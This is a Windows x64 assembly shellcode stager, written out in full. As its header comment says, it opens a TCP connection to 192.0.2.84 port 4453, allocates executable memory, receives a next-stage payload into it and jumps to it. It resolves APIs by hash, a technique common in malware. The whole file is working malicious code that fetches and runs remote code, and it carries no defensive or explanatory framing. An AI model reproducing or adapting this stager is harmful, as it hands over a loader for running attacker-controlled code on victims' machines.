; Windows, 64 bit: connects to 192.0.2.84 port 4453, reads its next stage into new executable memory, jumps there.
bits 64
%include "windows64_calls.inc"
HASH64 startup, 'WSAStartup'
HASH64 socket_of, 'WSASocketA'
HASH64 connect_to, 'connect'
HASH64 receive, 'recv'
HASH64 allocate, 'VirtualAlloc'
	RESOLVER64
	lea rcx, [rel library]
	CALL64 rbx, load_library
	mov r12, rax
	mov ecx, 0x202
	lea rdx, [rsp + 0x40]
	CALL64 r12, startup
	mov ecx, 2
	mov edx, 1
	xor r8d, r8d
	xor r9d, r9d
	CALL64 r12, socket_of
	mov r13, rax
	mov rax, 0x540200c065110002
	mov [rsp + 0x40], rax
	lea rdx, [rsp + 0x40]
	mov rcx, r13
	mov r8d, 16
	CALL64 r12, connect_to
	xor ecx, ecx
	mov edx, 0x1000
	mov r8d, 0x1000
	mov r9d, 0x40
	CALL64 rbx, allocate
	mov r14, rax
	mov rcx, r13
	mov rdx, r14
	mov r8d, 0x1000
	xor r9d, r9d
	CALL64 r12, receive
	jmp r14
library: db 'ws2_32', 0
